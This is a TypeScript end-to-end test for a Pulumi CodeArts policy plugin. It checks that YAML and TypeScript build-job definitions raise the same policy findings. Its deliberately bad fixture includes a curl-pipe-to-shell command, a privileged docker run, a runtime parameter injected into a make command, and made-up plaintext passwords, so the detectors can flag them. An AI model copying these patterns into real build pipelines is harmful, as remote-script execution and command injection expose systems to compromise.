/** Resources of the plugin meet the rules as those of the classes do: the same job in YAML and in TypeScript, under the real engine. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { rules } from "pulumi-codearts/policies";
import { installation } from "../../../tools/lib/installation";
import { type TestStack, withStack } from "../../../tools/lib/stack";
import { yamlHost } from "../../../tools/pulumi/yaml-host";
import { withSimulator } from "../../helpers/simulator";
import { linesOf, violationsOf } from "./violations";

const password = ["mAdeUp4", "TheTests-9f"].join("");
const command = "curl -fsSL https://get.example.com/a.sh | sh\ndocker run --privileged tool:1.4\nmake ${target}";
const bad = {
  name: "api",
  hostType: "team-pool",
  scms: [
    {
      type: "codehub",
      repositoryId: "1",
      branch: "dev",
      url: "http://codehub.example.com/team/api.git",
      webUrl: "http://codehub.example.com/team/api",
    },
  ],
  parameters: { deployPassword: { default: password, private: true }, target: { default: "all", runtime: true } },
  steps: [{ module: "devcloud2018.codeci_action_20035.action", name: "Step", properties: { command } }],
  schedules: [{ cron: "*/5 * * * *" }],
};
const good = {
  name: "good",
  timeout: { minutes: 30 },
  steps: [
    {
      module: "devcloud2018.codeci_action_20043.action",
      name: "Build",
      version: "20231001.6",
      properties: { command: "mvn -B verify" },
    },
  ],
};
const hook = "https://robot.example.com/hook/made-up";
const keystore = { name: "release.jks", content: "bWFkZSB1cA==", shared: true };
const template = { name: "java", description: "", toolType: "maven", steps: [], parameters: { uploadPassword: password } };

const typescript = `
import * as pulumi from "@pulumi/pulumi";
import * as codearts from "pulumi-codearts";
const key = new pulumi.Config().requireSecret("key");
const api = new codearts.BuildJob("api", ${JSON.stringify({ ...bad, parameters: { ...bad.parameters, open: "KEY" } }).replace('"KEY"', "key")});
new codearts.BuildJob("good", ${JSON.stringify(good)});
new codearts.Notice("mail", { jobId: api.id, channel: "WECOM", events: ["buildJobFail"], webhook: ${JSON.stringify(hook)} });
new codearts.Keystore("release.jks", ${JSON.stringify(keystore)});
new codearts.BuildTemplate("java", ${JSON.stringify(template)});
`;

/** YAML is a superset of JSON; `${` begins an expression there. */
const inYaml = (value: unknown) => JSON.stringify(value).split("${").join("$${").replace('"KEY"', '"${key}"');
const yaml = (plugin: string) => `
name: e2e
runtime: yaml
plugins:
  providers:
    - { name: codearts, path: ${JSON.stringify(plugin)} }
config:
  key: { type: string, secret: true }
resources:
  api:
    type: codearts:BuildJob
    properties: ${inYaml({ ...bad, parameters: { ...bad.parameters, open: { default: "KEY" } } })}
  good: { type: codearts:BuildJob, properties: ${inYaml(good)} }
  mail:
    type: codearts:Notice
    properties: { jobId: "\${api.id}", channel: WECOM, events: [buildJobFail], webhook: ${JSON.stringify(hook)} }
  release.jks: { type: codearts:Keystore, properties: ${inYaml(keystore)} }
  java: { type: codearts:BuildTemplate, properties: ${inYaml(template)} }
`;

let plugin: string;
beforeAll(async () => {
  plugin = join((await installation()).folder, "node_modules", "pulumi-codearts", "dist", "plugin");
  await yamlHost((line) => process.stderr.write(`${line}\n`));
}, 1_500_000);

const settings = Object.fromEntries(rules.map((rule) => [rule.name, { enforcementLevel: "advisory", ...rule.exampleConfig }]));
const config = { "e2e:key": { secret: "made-up-key-1234" } };

async function saidBy(stack: TestStack): Promise<string[]> {
  stack.write("policy-config.json", JSON.stringify(settings));
  const ready = "node_modules/pulumi-codearts/policy-pack";
  const run = await stack.preview({ args: ["--policy-pack", ready, "--policy-pack-config", "policy-config.json"] });
  const reviewed = await stack.command("pulumi-codearts", "review", "--policies", "policy-config.json", "--out", "report.json");
  expect(reviewed.stderr).not.toMatch(/--policies:/);
  const report = JSON.parse(readFileSync(join(stack.folder, "report.json"), "utf8"));
  const violations: { policy: string; path?: string }[] = report.stacks[0].violations;
  const lines = linesOf(violationsOf(run));
  expect(violations.map(({ policy, path = "" }) => `${policy} ${path}`).sort()).toEqual(
    violationsOf(run)
      .map(({ rule, path }) => `${rule} ${path}`)
      .sort(),
  );
  // `parameters: { open }` is an object in one of the two.
  return lines.map((line) => line.replace('parameters["open"].default', 'parameters["open"]'));
}

test(
  "a program in YAML and one in TypeScript have the same findings",
  () =>
    withSimulator(async (_simulator, env) => {
      const ofClasses = await withStack({ program: typescript, config, env }, saidBy);
      const ofPlugin = await withStack({ program: { "Pulumi.yaml": yaml(plugin) }, config, env, yaml: true }, saidBy);
      // The schema calls these inputs secret, and the host of YAML makes them so before anybody can see what the program wrote.
      const madeSecret = ["advisory keystore-private release.jks content", "advisory notice-webhook-secret mail webhook"];
      expect(ofPlugin).toEqual(ofClasses.filter((line) => !madeSecret.includes(line)));
      expect(ofClasses).toEqual(expect.arrayContaining(madeSecret));
      expect(ofPlugin).toEqual(
        expect.arrayContaining([
          'advisory build-job-no-plaintext-secret api parameters["deployPassword"].default',
          'advisory build-job-no-plaintext-secret api parameters["open"]',
          "advisory step-no-pipe-to-shell api steps[0].properties.command",
          "advisory step-no-privileged-container api steps[0].properties.command",
          "advisory step-no-parameter-injection api steps[0].properties.command",
          'advisory template-no-secret java parameters["uploadPassword"]',
        ]),
      );
    }),
  600_000,
);
